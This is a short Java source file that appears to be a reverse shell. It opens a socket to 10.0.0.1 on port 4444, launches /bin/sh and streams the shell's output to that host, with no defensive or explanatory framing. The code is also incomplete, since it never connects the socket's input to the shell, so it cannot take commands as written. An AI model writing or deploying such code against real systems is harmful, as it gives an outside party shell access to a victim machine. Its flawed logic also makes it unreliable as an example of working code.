import java.net.Socket;
import java.io.*;
public class Main {
    public static void main(String[] a) throws Exception {
        Socket s = new Socket("10.0.0.1", 4444);
        Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();
        p.getInputStream().transferTo(s.getOutputStream());
    }
}
